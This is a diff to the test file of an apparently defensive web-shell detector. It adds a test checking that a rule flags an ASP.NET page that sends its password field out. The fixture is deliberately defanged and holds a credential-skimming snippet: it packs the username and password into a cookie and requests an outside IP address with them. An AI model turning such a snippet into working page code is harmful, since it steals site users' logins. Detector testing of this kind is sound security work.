@@ -4,7 +4,8 @@ from __future__ import annotations
 
 import pytest
 
-from tests.detectors.fixture_cases import changed, finding, findings
+from tests.builders.inert import live
+from tests.detectors.fixture_cases import changed, finding, findings, read
 from webshellhunt import examine
 from webshellhunt.model.rules import Confidence, Severity
 
@@ -83,3 +84,15 @@ def test_all_ways_to_send_a_form(code: str) -> None:
 
     assert sends('"password"')
     assert not sends('"captcha"')
+
+
+@pytest.mark.parametrize(("value", "count"), [("user.Text", 0), ('user.Text + ":" + p.Text', 1)])
+def test_the_password_field_of_a_page_is_known_in_a_cookie_that_is_sent(value: str, count: int) -> None:
+    page = live(
+        '<·%@ Page Language="C#" %·><script runat="server">void Go(object s, EventArgs e) {\n'
+        f'var c = new HttpCookie("c", Convert.ToBase64String(Encoding.UTF8.GetBytes({value})));\n'
+        'new System.Net.WebClient().Download·String("http://198.51.100.7/?" + c.Value); }</script>\n'
+        '<form runat="server"><asp:TextBox ID="user" runat="server" />\n'
+        '<asp:TextBox ID="p" runat="server" TextMode="Password" /><asp:Button runat="server" OnClick="Go" /></form>'
+    )
+    assert len(findings(read(FIXED)._replace(data=page.encode(), path="a.aspx"), "WSH1047")) == count
